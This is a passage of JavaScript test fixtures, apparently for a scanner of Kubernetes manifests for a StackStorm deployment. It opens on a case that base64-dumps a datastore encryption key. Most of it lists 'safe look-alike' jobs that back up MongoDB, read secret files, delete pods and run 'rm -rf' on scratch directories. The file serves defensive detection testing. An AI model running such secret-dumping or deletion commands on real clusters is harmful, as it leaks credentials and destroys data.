    resources: [job({ name: 'key-show' }, { name: 'key-show', image: 'busybox:1.36.1', volumeMounts: [{ name: 'k', mountPath: '/keys' }], ...sh('cat /keys/datastore_key.json | base64') }, keyVolume)],
  });

  // --- Safe look-alikes -------------------------------------------------------------------------
  safeData('safe-backup-to-pvc', {
    resources: [
      { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'st2-backups' }, spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '20Gi' } } } },
      job({ name: 'st2-backup' }, { name: 'st2-backup', image: 'mongo:4.4.29', env: MONGO_ENV, volumeMounts: [{ name: 'b', mountPath: '/backup' }], ...sh('mongodump --host mongodb-0.mongodb --username "$MONGO_USER" --password "$MONGO_PASS" --authenticationDatabase admin --archive=/backup/st2-$(date +%F).gz --gzip && find /backup -name "st2-*.gz" -mtime +14 -delete') }, { volumes: [{ name: 'b', persistentVolumeClaim: { claimName: 'st2-backups' } }] }, '0 2 * * *'),
    ],
  });
  safeData('safe-backup-listed-bucket', {
    resources: [job({ name: 'st2-offsite' }, { name: 'st2-offsite', image: 'registry.example.com/tools/mongo-aws:4.4', env: MONGO_ENV, ...sh('mongodump --host mongodb-0.mongodb --archive --gzip | aws s3 cp - s3://default/st2/$(date +%F).gz') }, {}, '0 3 * * *')],
  });
  safeData('safe-backup-in-cluster-minio', {
    resources: [job({ name: 'st2-minio' }, { name: 'st2-minio', image: 'registry.example.com/tools/mongo-curl:4.4', env: MONGO_ENV, ...sh('mongodump --host mongodb-0.mongodb --archive=/tmp/st2.gz --gzip && curl -T /tmp/st2.gz http://minio.backup.svc.cluster.local:9000/st2/st2.gz') }, {}, '0 3 * * *')],
  });
  safeData('safe-backup-done-notice', {
    resources: [
      { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'st2-backups' }, spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '20Gi' } } } },
      job({ name: 'st2-backup' }, { name: 'st2-backup', image: 'registry.example.com/tools/mongo-curl:4.4', env: MONGO_ENV, volumeMounts: [{ name: 'b', mountPath: '/backup' }], ...sh('mongodump --host mongodb-0.mongodb --archive=/backup/st2.gz --gzip && curl -s -d \'{"text":"st2 backup done"}\' https://chat.example.com/hooks/backup') }, { volumes: [{ name: 'b', persistentVolumeClaim: { claimName: 'st2-backups' } }] }, '0 2 * * *'),
    ],
  });
  safeData('safe-secret-checksum-log', {
    resources: [job({ name: 'key-fingerprint' }, { name: 'key-fingerprint', image: 'busybox:1.36.1', volumeMounts: [{ name: 'k', mountPath: '/keys' }], ...sh('sha256sum /keys/datastore_key.json; cat /keys/datastore_key.json | sha256sum') }, keyVolume)],
  });
  safeData('safe-copy-secret-to-file', {
    patches: [initContainer(st2api, { name: 'stage-config', image: 'busybox:1.36.1', ...sh('cat /etc/st2/st2.secrets.conf > /tmp/st2.secrets.conf; echo staged'), volumeMounts: [{ name: 'st2-config-secrets-vol', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf', readOnly: true }] })],
  });
  safeData('safe-print-ca-cert', {
    resources: [
      job({ name: 'ca-show' }, { name: 'ca-show', image: 'busybox:1.36.1', volumeMounts: [{ name: 'ca', mountPath: '/ca' }], ...sh('cat /ca/ca.crt') }, { volumes: [{ name: 'ca', secret: { secretName: 'st2-datastore-crypto-key' } }] }),
    ],
  });
  safeData('safe-password-piped-to-mongo', {
    resources: [job({ name: 'db-ping' }, { name: 'db-ping', image: 'mongo:4.4.29', env: MONGO_ENV, ...sh('echo "$MONGO_PASS" | mongo --host mongodb-0.mongodb -u "$MONGO_USER" -p --authenticationDatabase admin --eval "db.adminCommand({ping: 1})" --quiet') })],
  });
  safeOps('safe-rollout-restart-mongo', { resources: recycler('db-restart', 'kubectl -n st2-prod rollout restart statefulset/mongodb', '0 4 * * 0') });
  safeOps('safe-delete-one-member', { resources: recycler('db-kick', 'kubectl -n st2-prod delete pod mongodb-2', '0 4 * * 0') });
  safeOps('safe-delete-completed-jobs-pods', { resources: recycler('job-reaper', 'kubectl -n st2-prod delete pods --field-selector=status.phase==Succeeded -l app.kubernetes.io/component=smoke-test') });
  safeOps('safe-remove-stale-lock', { patches: [initContainer(mongoSts, { name: 'unlock', image: 'busybox:1.36.1', ...sh('rm -f /data/db/mongod.lock'), volumeMounts: [{ name: 'datadir', mountPath: '/data/db' }] })] });
  safeOps('safe-clean-tmp', { patches: [initContainer(mongoSts, { name: 'tmp-clean', image: 'busybox:1.36.1', ...sh('rm -rf /tmp/* /scratch/*'), volumeMounts: [{ name: 'scratch', mountPath: '/scratch' }] }), patch(mongoSts, add('/spec/template/spec/volumes/-', { name: 'scratch', emptyDir: {} }))] });
  safeOps('safe-rabbit-list-queues', { resources: [job({ name: 'mq-report' }, { name: 'mq-report', image: 'rabbitmq:3.12.14', command: ['rabbitmqctl', '-n', 'rabbit@rabbitmq-0.rabbitmq-discovery', 'list_queues', 'name', 'messages'] }, {}, '0 * * * *')] });
  safeOps('safe-echo-dropdb-hint', { resources: [job({ name: 'runbook' }, { name: 'runbook', image: 'busybox:1.36.1', ...sh('echo "to reset dev run: db.dropDatabase()"') })] });
  return cases;
}
